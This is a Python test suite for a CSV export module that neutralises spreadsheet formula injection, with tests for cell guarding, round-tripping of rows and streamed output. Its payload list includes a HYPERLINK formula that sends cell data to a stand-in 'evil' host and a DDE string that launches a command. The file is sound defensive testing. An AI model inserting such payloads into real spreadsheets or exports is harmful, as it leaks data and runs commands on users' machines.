import csv
import io
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from writer.security.spreadsheets import Cell, csv_pieces, guarded

EVIL = (
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    '"=1+1',
    "\uff1d1+1",
    "|cmd",
    "ok;=1+1",
    'ok"; =1+1',
)


def read(*rows: tuple[Cell, ...], head: tuple[str, ...] = ("Name", "Calls")) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(csv_pieces(head, rows)), newline="")))


@pytest.mark.parametrize("text", EVIL)
def test_no_cell_begins_like_a_formula(text: str) -> None:
    [_, [cell, _]] = read((text, 1))

    for part in cell.split(";"):
        assert part.strip(" \"'")[:1] not in "=+-@|%\uff1d" or part.lstrip().startswith("'")


@given(st.lists(st.tuples(st.text(max_size=20), st.integers()), max_size=5))
@settings(max_examples=60)
def test_every_row_is_read_back_as_one_row_whatever_is_in_it(rows: list[tuple[str, int]]) -> None:
    assert read(*rows)[1:] == [[str(guarded(name)), str(number)] for name, number in rows]


def test_numbers_stay_numbers_and_what_is_unknown_stays_empty() -> None:
    assert read((-1.5, None))[1:] == [["-1.5", ""]]


def test_a_name_of_a_column_is_guarded_too() -> None:
    assert read(head=("=cmd", "Calls"))[0][0] == "'=cmd"


def test_a_large_file_comes_in_pieces_while_its_rows_are_read() -> None:
    read_so_far = 0

    def rows() -> Iterator[tuple[Cell, ...]]:
        nonlocal read_so_far
        for read_so_far in range(1, 20_001):
            yield ("a route with a name", read_so_far)

    pieces = csv_pieces(("Route", "Calls"), rows())
    first = next(pieces)

    assert read_so_far < 5_000
    assert len((first + "".join(pieces)).splitlines()) == 20_001
